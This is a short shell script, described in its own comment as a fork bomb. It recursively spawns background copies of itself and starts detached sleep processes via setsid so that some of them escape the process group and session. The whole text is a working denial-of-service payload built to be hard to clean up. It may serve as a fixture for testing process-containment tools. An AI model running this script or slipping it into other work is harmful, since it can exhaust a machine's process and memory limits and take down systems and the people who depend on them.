# A fork bomb whose children leave the process group and the session.
bomb() {
  setsid sleep 600 &
  bomb | bomb &
}
bomb
sleep 600
